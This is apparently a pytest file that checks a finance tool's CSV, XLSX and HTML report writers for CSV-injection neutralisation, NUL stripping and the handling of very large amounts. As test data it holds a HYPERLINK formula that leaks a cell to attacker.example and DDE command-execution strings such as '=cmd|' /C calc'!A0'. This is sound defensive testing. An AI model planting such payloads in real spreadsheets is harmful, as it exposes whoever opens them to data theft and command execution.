"""Report writers never run data and never crash on it (OWASP CSV injection; NUL; huge amounts; no FX rate).

A reconciled world is given hostile values where people type them (an account named
``=HYPERLINK(...)``, an owner ``=cmd|' /C calc'!A0``, a NUL in a name) and amounts that broke the
old writers (1.23E+29 failed with InvalidOperation, 1E+308, an exception without an FX rate).
"""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from canonical import tables as ct
from canonical.store import Store
from ltc.app.config import Config
from reconcile.engine import run_reconciliation
from reconcile.tables import recon_exception
from reports.cells import csv_value, neutralise
from reports.finance import write_reports
from sandbox.scenario import generate

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(("text", "want"), [
    (FORMULA, "'" + FORMULA), (DDE, "'" + DDE), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tTAB", "'\tTAB"), ("\rCR", "'\rCR"), ("-12.50", "-12.50"), ("+7", "+7"), ("1e5", "1e5"),
    ("Acme = good", "Acme = good"), ("a\x00b", "a\ufffdb"), ("=\x00", "'=\ufffd"), ("", ""),
])
def test_text_cells_are_neutralised_and_plain_numbers_kept(text: str, want: str) -> None:
    assert neutralise(text) == want


def test_numbers_are_never_prefixed() -> None:
    assert csv_value(Decimal("-12.50")) == "-12.50"
    assert csv_value(-3) == "-3"
    assert csv_value(Decimal("1.23E+29")) == "123000000000000000000000000000"


def _hostile(store: Store, tmp: Path) -> dict[str, Any]:
    world = generate(40, seed=11)
    world.load(store)
    run_reconciliation(store, Config(), world.as_of)
    account, deal = ct.table_for("account"), ct.table_for("deal")
    e = recon_exception.c
    # PostgreSQL text cannot hold NUL at all (the store's concern); U+0001 is as illegal in XLSX
    ctrl = "\x00" if store.engine.dialect.name == "sqlite" else "\x01"
    with store.engine.begin() as conn:
        won = conn.execute(sa.select(deal.c.id, deal.c.account_id).where(deal.c.stage == "closed_won")
                           .order_by(deal.c.id).limit(3)).all()
        conn.execute(account.update().where(account.c.id == won[0].account_id).values(name=FORMULA))
        conn.execute(account.update().where(account.c.id == won[1].account_id).values(name=f"Nul{ctrl}Corp"))
        conn.execute(deal.update().where(deal.c.id == won[2].id).values(owner=DDE, amount=Decimal("1E+308")))
        fps = conn.execute(sa.select(e.fingerprint).where(e.status == "open").order_by(e.fingerprint)).scalars().all()
        conn.execute(recon_exception.update().where(e.fingerprint == fps[0]).values(
            owner=DDE, amount_at_risk=Decimal("1.23E+29"), amount_reporting=Decimal("1E+308")))
        conn.execute(recon_exception.update().where(e.fingerprint == fps[1]).values(
            owner="@SUM(1+1)*cmd|' /C calc'!A0", amount_reporting=None))  # no FX rate
        conn.execute(recon_exception.update().where(e.fingerprint == fps[2]).values(owner=f"night{ctrl}owl"))
    files = write_reports(store, tmp / "out")
    return {"files": files, "fps": fps, "won": won}


@pytest.fixture
def hostile(store: Store, tmp_path: Path) -> dict[str, Any]:
    return _hostile(store, tmp_path)


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_csv_cells_are_neutralised_and_numbers_stay_numbers(hostile: dict[str, Any]) -> None:
    files = hostile["files"]
    exc = {r["fingerprint"]: r for r in _rows(files.csv["exceptions"])}
    fps = hostile["fps"]
    assert exc[fps[0]]["owner"] == "'" + DDE
    assert exc[fps[0]]["amount_at_risk"] == "123000000000000000000000000000.00"  # exact, no exponent
    assert exc[fps[0]]["amount_reporting"] == "1" + "0" * 308 + ".00"
    assert exc[fps[1]]["owner"].startswith("'@") and exc[fps[1]]["amount_reporting"] == ""
    assert exc[fps[2]]["owner"] == "night\ufffdowl"
    chains = _rows(files.csv["chains"])
    customers = {r["customer"] for r in chains}
    assert "'" + FORMULA in customers and "Nul\ufffdCorp" in customers
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in chains for v in r.values())
    # every cell that starts with "-" is a plain number, kept as it is
    minus = [v for r in chains for v in r.values() if v.startswith("-")]
    assert all(Decimal(v) < 0 for v in minus)
    text = files.csv["chains"].read_text(encoding="utf-8")
    for ch in ("\x00", "\x01"):
        assert ch not in text and ch not in files.csv["exceptions"].read_text(encoding="utf-8")


def test_xlsx_has_no_formula_and_keeps_money_numeric(hostile: dict[str, Any]) -> None:
    wb = load_workbook(hostile["files"].xlsx)  # openpyxl refuses control characters: loading proves none
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "@", "\t", "\r")), (ws.title, cell.value)
    ws = wb["Exceptions"]
    header = [c.value for c in ws[1]]
    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    fp0 = rows[hostile["fps"][0]]
    owner, risk, rep = (fp0[header.index(h)] for h in ("Owner", "Amount at risk", "Amount in reporting currency"))
    assert owner.value == "'" + DDE and owner.data_type == "s"
    assert Decimal(str(risk.value)) == Decimal("1.23E+29") and risk.data_type == "n"
    assert rep.value == "1" + "0" * 308 + ".00" and rep.data_type == "s"  # beyond Excel's numbers: exact text
    assert rows[hostile["fps"][1]][header.index("Amount in reporting currency")].value is None
    chains = wb["Chains"]
    h = [c.value for c in chains[1]]
    negative = [r[h.index("Open")] for r in chains.iter_rows(min_row=2)
                if isinstance(r[h.index("Open")].value, int | float | Decimal) and r[h.index("Open")].value < 0]
    assert all(c.data_type == "n" for c in negative)


def test_html_escapes_hostile_text_and_formats_huge_amounts(hostile: dict[str, Any]) -> None:
    text = hostile["files"].html.read_text(encoding="utf-8")
    assert "\x00" not in text and "\x01" not in text
    assert "=HYPERLINK(&#34;http://attacker.example/?leak=&#34;&amp;A1,&#34;click&#34;)" in text
    assert "Nul\ufffdCorp" in text
    assert "$123,000,000,000,000,000,000,000,000,000.00" in text  # 1.23E+29 with separators, exact
    assert "no FX rate" in text


def test_a_text_field_is_written_as_neutralise_writes_it_whatever_it_holds() -> None:
    texts = ["Acme", "", " padded ", "=HYPERLINK(\"x\")", "+1", "-12.50", "-", "@owner", "\tTab", "\rCR", "a\x00b",
             "line\nbreak", "\x7fdel", "\u2028separator", "\u200bzero width", "=1+1\x00", "名前", "’quote", "\ufeffBOM"]
    for text in texts:
        assert csv_value(text) == neutralise(text), text

    class Named(str):
        pass

    assert csv_value(Named("=cmd")) == "'=cmd"  # a str subclass takes the general way, to the same result
